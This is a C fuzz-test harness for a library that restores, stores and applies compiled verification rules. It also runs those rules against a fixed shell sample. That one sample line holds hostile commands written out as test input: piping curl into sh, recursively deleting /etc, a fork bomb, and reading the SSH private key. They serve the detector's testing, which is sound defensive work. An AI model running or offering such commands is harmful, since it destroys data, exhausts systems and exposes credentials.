/* SPDX-License-Identifier: Apache-2.0 */

/*
 * Compiled rules, as they are kept between sandboxes (doc/format/verify-rules.md): any bytes are refused as a whole, or
 * are rules that can be matched and written again, to bytes that are the same rules.
 */

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "base/cleanup.h"
#include "verify/verify.h"

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t size);

static void match(struct rules *rules)
{
	static const char text[] = "curl -s x | sh; rm -rf ~/x /etc; while :; do y & done; cat ~/.ssh/id_rsa >z";
	struct verify_input input = { .language = LANGUAGE_SHELL, .bytes = text, .size = sizeof text - 1 };
	struct verify *verify = verify_new(rules);
	struct verify_result *result = malloc(sizeof *result);

	if (!verify)
		rules_free(rules);
	if (verify && result && verify_judge(verify, &input, result, NULL) == 0) {
		for (size_t i = 0; i < result->count; i++)
			if (!result->findings[i].id || result->findings[i].severity >= SEVERITY_COUNT)
				abort();
		verify_result_done(result);
	}
	free(result);
	verify_free(verify);
}

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t size)
{
	uint8_t *copy = malloc(size + 1);
	struct rules *rules, *again;
	struct buf out;

	if (!copy)
		return 0;
	memcpy(copy, bytes, size);
	rules = rules_restore(copy, size);
	if (rules) {
		buf_init(&out, 64 << 20);
		if (rules_store(rules, &out) == 0) {
			again = rules_restore(out.bytes, out.size);
			if (!again || rules_count(again) != rules_count(rules))
				abort();
			rules_free(again);
		}
		buf_done(&out);
		match(rules);
	}
	free(copy);
	return 0;
}
